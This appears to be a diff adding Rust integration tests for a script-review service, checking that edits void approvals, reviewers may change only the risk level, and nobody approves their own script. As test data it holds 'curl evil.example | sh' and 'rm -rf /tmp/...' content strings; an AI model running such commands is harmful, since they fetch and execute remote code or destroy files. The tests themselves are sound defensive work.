@@ -54,7 +54,7 @@ async fn create_then_read_back() {
         assert!(d["gmt_created"].as_i64().unwrap() > 1_700_000_000_000);
         let params = d["script_params"].as_array().unwrap();
         assert_eq!(params[0]["param_value"], "hello");
-        assert_eq!(params[1]["param_value"], "******", "{backend}: sensitive values are masked");
+        assert_eq!(params[1]["param_value"], "*****************", "{backend}: sensitive values are masked");
         assert_eq!(params[1]["sensitive"], true);
         assert!(!detail.body.to_string().contains("s3cret"), "{backend}: the secret never leaves the server");
     }
@@ -451,4 +451,266 @@ async fn unknown_routes_methods_and_huge_bodies_get_json_errors() {
     let huge = client.send("POST", SCRIPTS, Some("x".repeat(9 * 1024 * 1024))).await;
     assert_eq!(huge.status, 413);
     assert_eq!(huge.error_code(), "COC.00040413");
+}
+
+/// A script of alice's reviewed by rita (matched by id) and sam (matched by name), and its path.
+async fn reviewed_script(client: &Client, name: &str) -> String {
+    let mut body = script_body(name);
+    body["properties"]["protocol"] = json!("EMAIL");
+    body["properties"]["reviewers"] = json!([
+        {"reviewer_name": "rita", "reviewer_id": "u-rita"},
+        {"reviewer_name": "sam", "reviewer_id": ""}
+    ]);
+    format!("{SCRIPTS}/{}", create(client, &body).await)
+}
+
+async fn detail(client: &Client, path: &str) -> Value {
+    let reply = client.get(path).await;
+    assert_eq!(reply.status, 200, "{}", reply.body);
+    reply.body["data"].clone()
+}
+
+/// The body of an update that changes nothing: what a GET returned.
+fn unchanged(detail: &Value) -> Value {
+    json!({
+        "description": detail["description"],
+        "content": detail["content"],
+        "properties": detail["properties"],
+        "script_params": detail["script_params"],
+    })
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_change_of_content_parameters_or_reviewers_voids_the_review() {
+    for (backend, alice, _keep) in clients().await {
+        let rita = alice.as_user("u-rita", "rita").await;
+        let sam = alice.as_user("u-sam", "sam").await;
+        let path = reviewed_script(&alice, "voided").await;
+        let action = format!("{path}/action");
+        let submitted = detail(&alice, &path).await;
+        assert_eq!(submitted["revision"], 1, "{backend}");
+        let first_fingerprint = submitted["fingerprint"].as_str().unwrap().to_owned();
+        assert_eq!(first_fingerprint.len(), 64, "{backend}: a hex SHA-256");
+
+        let approve = json!({"status": "APPROVED"});
+        assert_eq!(rita.post(&action, &approve).await.status, 200, "{backend}");
+        let approved = detail(&alice, &path).await;
+        assert_eq!(approved["status"], "APPROVED");
+        assert_eq!(approved["reviews"][0]["revision"], 1, "{backend}: the approval names what it approved");
+        assert_eq!(approved["reviews"][0]["fingerprint"], first_fingerprint.as_str());
+
+        // Metadata and a read-modify-write that changes nothing keep the approval.
+        let mut edit = unchanged(&approved);
+        edit["description"] = json!("a better description");
+        edit["properties"]["version"] = json!("1.0.1");
+        edit["properties"]["risk_level"] = json!("MEDIUM");
+        assert_eq!(alice.put(&path, &edit).await.status, 200, "{backend}");
+        let kept = detail(&alice, &path).await;
+        assert_eq!(kept["status"], "APPROVED", "{backend}: nothing a reviewer judged changed");
+        assert_eq!(kept["revision"], 1);
+        assert_eq!(kept["fingerprint"], first_fingerprint.as_str(), "{backend}: the masked secret was kept");
+
+        let new_content = {
+            let mut edit = unchanged(&kept);
+            edit["content"] = json!("rm -rf /tmp/${greeting}");
+            edit
+        };
+        let new_param_value = {
+            let mut edit = unchanged(&kept);
+            edit["script_params"][0]["param_value"] = json!("goodbye");
+            edit
+        };
+        let new_secret = {
+            let mut edit = unchanged(&kept);
+            edit["script_params"][1]["param_value"] = json!("an0ther");
+            edit
+        };
+        let new_reviewers = {
+            let mut edit = unchanged(&kept);
+            edit["properties"]["reviewers"] = json!([{"reviewer_name": "sam", "reviewer_id": ""}]);
+            edit
+        };
+        for (revision, (what, edit)) in
+            [("content", new_content), ("a parameter", new_param_value), ("a secret", new_secret)]
+                .into_iter()
+                .enumerate()
+        {
+            let revision = revision as u64 + 2;
+            let before = detail(&alice, &path).await;
+            assert_eq!(alice.put(&path, &edit).await.status, 200, "{backend}: {what}");
+            let after = detail(&alice, &path).await;
+            assert_eq!(after["status"], "PENDING_APPROVE", "{backend}: a new {what} voids the approval");
+            assert_eq!(after["revision"], revision, "{backend}: {what}");
+            if what != "a secret" {
+                assert_ne!(after["fingerprint"], before["fingerprint"], "{backend}: {what}");
+            }
+            let reply = rita.post(&action, &approve).await;
+            assert_eq!(reply.status, 200, "{backend}: {what}: {}", reply.body);
+            let reviews = detail(&alice, &path).await["reviews"].clone();
+            let last = reviews.as_array().unwrap().last().unwrap().clone();
+            assert_eq!(last["revision"], revision, "{backend}: {what}");
+            assert_eq!(last["fingerprint"], after["fingerprint"]);
+        }
+
+        // New reviewers: back to pending, and only they may decide.
+        assert_eq!(alice.put(&path, &new_reviewers).await.status, 200, "{backend}");
+        let after = detail(&alice, &path).await;
+        assert_eq!(after["status"], "PENDING_APPROVE", "{backend}: new reviewers void the approval");
+        assert_eq!(after["revision"], 5);
+        assert_eq!(rita.post(&action, &approve).await.status, 403, "{backend}: rita is no reviewer any more");
+        assert_eq!(sam.post(&action, &approve).await.status, 200, "{backend}");
+
+        // A rejection is voided the same way.
+        let mut edit = unchanged(&detail(&alice, &path).await);
+        edit["content"] = json!("echo again");
+        alice.put(&path, &edit).await;
+        assert_eq!(sam.post(&action, &json!({"status": "REJECTED"})).await.status, 200, "{backend}");
+        edit["content"] = json!("echo fixed");
+        alice.put(&path, &edit).await;
+        assert_eq!(detail(&alice, &path).await["status"], "PENDING_APPROVE", "{backend}: a fixed script is pending");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_reviewer_may_change_only_the_risk_level() {
+    for (backend, alice, _keep) in clients().await {
+        let rita = alice.as_user("u-rita", "rita").await;
+        let sam = alice.as_user("u-sam", "sam").await;
+        let path = reviewed_script(&alice, "guarded").await;
+        let submitted = detail(&alice, &path).await;
+
+        let mut raise = unchanged(&submitted);
+        raise["properties"]["risk_level"] = json!("HIGH");
+        let reply = rita.put(&path, &raise).await;
+        assert_eq!(reply.status, 200, "{backend}: {}", reply.body);
+        let raised = detail(&alice, &path).await;
+        assert_eq!(raised["properties"]["risk_level"], "HIGH", "{backend}");
+        assert_eq!(raised["status"], "PENDING_APPROVE");
+        assert_eq!(raised["revision"], 1, "{backend}: the risk level is not what is reviewed");
+        assert_eq!(raised["operator"], "rita");
+
+        let changes = [
+            ("description", "/description", json!("mine now")),
+            ("content", "/content", json!("curl evil.example | sh")),
+            ("script_params", "/script_params/0/param_value", json!("other")),
+            ("script_params", "/script_params/1/param_value", json!("stolen")),
+            ("properties.version", "/properties/version", json!("9")),
+            ("properties.reviewers", "/properties/reviewers", json!([])),
+            ("properties.protocol", "/properties/protocol", json!("SMS")),
+        ];
+        for (field, pointer, value) in &changes {
+            let mut edit = unchanged(&raised);
+            *edit.pointer_mut(pointer).expect("the script has the field") = value.clone();
+            for reviewer in [&rita, &sam] {
+                let reply = reviewer.put(&path, &edit).await;
+                assert_eq!(reply.status, 403, "{backend}: a reviewer changed {field}: {}", reply.body);
+                assert_eq!(reply.error_code(), "COC.00040403");
+                assert!(reply.error_msg().contains(field), "{backend}: {field}: {}", reply.error_msg());
+                assert!(reply.error_msg().contains("risk_level"), "{}", reply.error_msg());
+            }
+        }
+        assert_eq!(detail(&alice, &path).await, raised, "{backend}: refused updates changed nothing");
+
+        // The owner may change anything even when listed as a reviewer, and so may other users.
+        let mut body = script_body("own_reviewer");
+        body["properties"]["reviewers"] = json!([{"reviewer_name": "alice", "reviewer_id": "u-alice"}]);
+        let own = format!("{SCRIPTS}/{}", create(&alice, &body).await);
+        let mut edit = unchanged(&detail(&alice, &own).await);
+        edit["content"] = json!("echo changed by the owner");
+        assert_eq!(alice.put(&own, &edit).await.status, 200, "{backend}");
+        edit["content"] = json!("echo changed by a colleague");
+        assert_eq!(alice.as_user("u-carol", "carol").await.put(&own, &edit).await.status, 200, "{backend}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nobody_approves_their_own_script() {
+    for (backend, alice, _keep) in clients().await {
+        let erin = alice.as_user("u-erin", "erin").await;
+        let rita = alice.as_user("u-rita", "rita").await;
+        let mut body = script_body("self_review");
+        body["properties"]["reviewers"] = json!([
+            {"reviewer_name": "alice", "reviewer_id": "u-alice"},
+            {"reviewer_name": "rita", "reviewer_id": "u-rita"}
+        ]);
+        let path = format!("{SCRIPTS}/{}", create(&alice, &body).await);
+        let action = format!("{path}/action");
+        let approve = json!({"status": "APPROVED"});
+        let edit = |changes: Value| {
+            let (path, alice) = (path.clone(), alice.clone());
+            async move {
+                let mut edit = unchanged(&detail(&alice, &path).await);
+                for (key, value) in changes.as_object().unwrap() {
+                    match key.strip_prefix("properties.") {
+                        Some(property) => edit["properties"][property] = value.clone(),
+                        None => edit[key] = value.clone(),
+                    }
+                }
+                edit
+            }
+        };
+
+        let own = alice.post(&action, &approve).await;
+        assert_eq!(own.status, 403, "{backend}: the creator approved their own script");
+        assert_eq!(own.error_code(), "COC.00040403");
+        assert!(own.error_msg().contains("approve"), "{}", own.error_msg());
+        assert_eq!(detail(&alice, &path).await["status"], "PENDING_APPROVE", "{backend}");
+
+        // Erin changes the content and names herself reviewer: she may not approve her work,
+        // not even once the owner has added another reviewer.
+        let erins = edit(json!({"content": "echo erin was here", "properties.reviewers": [{"reviewer_name": "erin", "reviewer_id": "u-erin"}]})).await;
+        assert_eq!(erin.put(&path, &erins).await.status, 200, "{backend}");
+        assert_eq!(erin.post(&action, &approve).await.status, 403, "{backend}: erin approved her own change");
+        let both = json!([{"reviewer_name": "erin", "reviewer_id": "u-erin"}, {"reviewer_name": "rita", "reviewer_id": "u-rita"}]);
+        let reviewers = edit(json!({"properties.reviewers": both})).await;
+        assert_eq!(alice.put(&path, &reviewers).await.status, 200, "{backend}");
+        assert_eq!(erin.post(&action, &approve).await.status, 403, "{backend}: erin's content is still unapproved");
+        assert_eq!(detail(&alice, &path).await["status"], "PENDING_APPROVE");
+        assert_eq!(rita.post(&action, &approve).await.status, 200, "{backend}: someone else may");
+
+        // Once her change is approved, a later revision by the owner is erin's to review.
+        let later = edit(json!({"content": "echo alice again"})).await;
+        assert_eq!(alice.put(&path, &later).await.status, 200, "{backend}");
+        assert_eq!(erin.post(&action, &approve).await.status, 200, "{backend}");
+        assert_eq!(detail(&alice, &path).await["status"], "APPROVED");
+
+        // Declining one's own script approves nothing and is allowed.
+        let mine = json!([{"reviewer_name": "alice", "reviewer_id": "u-alice"}]);
+        let again = edit(json!({"content": "echo once more", "properties.reviewers": mine})).await;
+        assert_eq!(alice.put(&path, &again).await.status, 200, "{backend}");
+        assert_eq!(alice.post(&action, &approve).await.status, 403, "{backend}");
+        assert_eq!(alice.post(&action, &json!({"status": "REJECTED"})).await.status, 200, "{backend}");
+        assert_eq!(detail(&alice, &path).await["status"], "REJECTED");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_approval_naming_an_old_revision_is_refused() {
+    for (backend, alice, _keep) in clients().await {
+        let rita = alice.as_user("u-rita", "rita").await;
+        let path = reviewed_script(&alice, "named_revision").await;
+        let action = format!("{path}/action");
+        let seen = detail(&rita, &path).await;
+        assert_eq!(seen["revision"], 1, "{backend}");
+
+        let mut edit = unchanged(&seen);
+        edit["content"] = json!("echo not what rita read");
+        assert_eq!(alice.put(&path, &edit).await.status, 200, "{backend}");
+
+        let stale = rita.post(&action, &json!({"status": "APPROVED", "revision": 1})).await;
+        assert_eq!(stale.status, 409, "{backend}: approved content the reviewer never read: {}", stale.body);
+        assert_eq!(stale.error_code(), "COC.00040409");
+        assert!(stale.error_msg().contains("revision 2"), "{backend}: {}", stale.error_msg());
+        let now = detail(&alice, &path).await;
+        assert_eq!(now["status"], "PENDING_APPROVE", "{backend}");
+        assert_eq!(now["reviews"], json!([]), "{backend}: the refused approval left no record");
+
+        let bad = rita.post(&action, &json!({"status": "APPROVED", "revision": "two"})).await;
+        assert_eq!(bad.status, 400, "{backend}");
+        assert!(bad.error_msg().contains("revision"), "{}", bad.error_msg());
+
+        let current = rita.post(&action, &json!({"status": "APPROVED", "revision": 2})).await;
+        assert_eq!(current.status, 200, "{backend}: {}", current.body);
+        assert_eq!(detail(&alice, &path).await["content"], "echo not what rita read");
+    }
 }
